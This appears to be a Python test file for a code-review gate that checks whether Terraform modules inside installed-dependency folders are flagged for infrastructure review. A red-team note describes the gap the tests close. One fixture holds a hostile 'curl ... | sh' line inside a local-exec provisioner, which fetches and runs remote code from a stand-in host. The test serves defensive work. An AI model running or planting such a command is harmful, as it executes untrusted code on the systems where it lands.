"""Red team 23: a Terraform module kept in installed code that a root module sources stayed deps.

`module "net" { source = "./node_modules/net" }` (or `../../bower_components/net` from a live folder, a Carthage
checkout, Yarn's unplugged packages, a framework bundle, LibMan's wwwroot/lib, CUE's cue.mod/pkg) applies that folder's
configuration as any other module's, but only vendor/, _vendor/, vendored/, third_party/, third-party/ and deps/ were
in iac.terraform-vendored: the installed-code rules came first and the default gate allowed an edit that adds a
`local-exec` to the module, with the commits and from a patch (red team 22's report left the first two open). Now the
configuration of every installed-code folder is iac by path. Cost on the 909 mirrored repositories' HEAD trees
(1,212,932 paths): none holds a Terraform file in such a folder, so no path changes bucket.
"""

from __future__ import annotations

from pathlib import Path

from tables import each_case

from gatekeeper.classify.ruleset import load_rules
from tests.gitrepo import two_commits
from tests.incli import reviewed_paths, tree_gate
from tests.test_classify_context import POLICIES, patch_files, tree_files

VPC = 'resource "aws_vpc" "main" {\n  cidr_block = "10.0.0.0/16"\n}\n'
EXEC = ('resource "null_resource" "x" {\n  provisioner "local-exec" {\n'
        '    command = "curl -s https://c.example.net | sh"\n  }\n}\n')
INSTALLED = ("node_modules", "web/node_modules", "bower_components", "Carthage/Checkouts", "Carthage/Build",
             ".yarn/unplugged", ".yarn/cache", "Acme.framework", "web/wwwroot/lib", "web/wwwroot/css/bootstrap",
             "cue.mod/pkg", "cue.mod/gen", "vendor_tf", "vendored_mods")
# How a root configuration names the module folder: HCL module, its JSON syntax, Terragrunt, OpenTofu.
SOURCES = {
    "main.tf": 'module "net" {{\n  source = "{src}"\n}}\n',
    "main.tf.json": '{{"module": {{"net": {{"source": "{src}"}}}}}}\n',
    "terragrunt.hcl": 'terraform {{\n  source = "{src}"\n}}\n',
    "main.tofu": 'module "net" {{\n  source = "{src}"\n}}\n',
}
NAMES = ("main.tf", "network.tf.json", "main.tofu", "outputs.tofu.json")


@each_case("folder", INSTALLED)
@each_case("name", NAMES)
def test_terraform_in_installed_code_is_iac_by_path(folder: str, name: str) -> None:
    rules = load_rules(POLICIES)
    assert rules.match(f"{folder}/net/{name}").bucket == "iac"


@each_case("root, folder", [(root, folder) for root in sorted(SOURCES)
           for folder in ("node_modules", "bower_components", "Carthage/Checkouts", ".yarn/unplugged")])
def test_a_sourced_installed_module_is_iac_with_the_commits_and_from_a_patch(tmp_path: Path, folder: str,
                                                                             root: str) -> None:
    target = f"{folder}/net/main.tf"
    repo, base, head = two_commits(tmp_path / "repo", {f"live/{root}": SOURCES[root].format(src=f"../{folder}/net"),
                                                       target: VPC}, {target: VPC + EXEC})
    assert tree_files(repo, f"{base}..{head}")[target].bucket == "iac"
    assert patch_files(repo, tmp_path, f"{base}..{head}")[target].bucket == "iac"


def test_the_default_gate_reviews_the_edit(tmp_path: Path) -> None:
    target = "node_modules/net/main.tf"
    repo, base, head = two_commits(tmp_path / "repo", {"main.tf": SOURCES["main.tf"].format(src="./node_modules/net"),
                                                       target: VPC}, {target: VPC + EXEC})
    code, decision = tree_gate(repo.root, base, head)
    assert code == 3 and reviewed_paths(decision, "core.iac") == {target}


@each_case("path", ("node_modules/left-pad/index.js", "bower_components/jquery/dist/jquery.js",
                                  "Carthage/Checkouts/Alamofire/Source/Session.swift", "node_modules/x/index.d.ts",
                                  "node_modules/x/terraform.md", "vendor_tf/x/notes.txt"))
def test_the_rest_of_installed_code_stays_deps(path: str) -> None:
    assert load_rules(POLICIES).match(path).bucket == "deps"
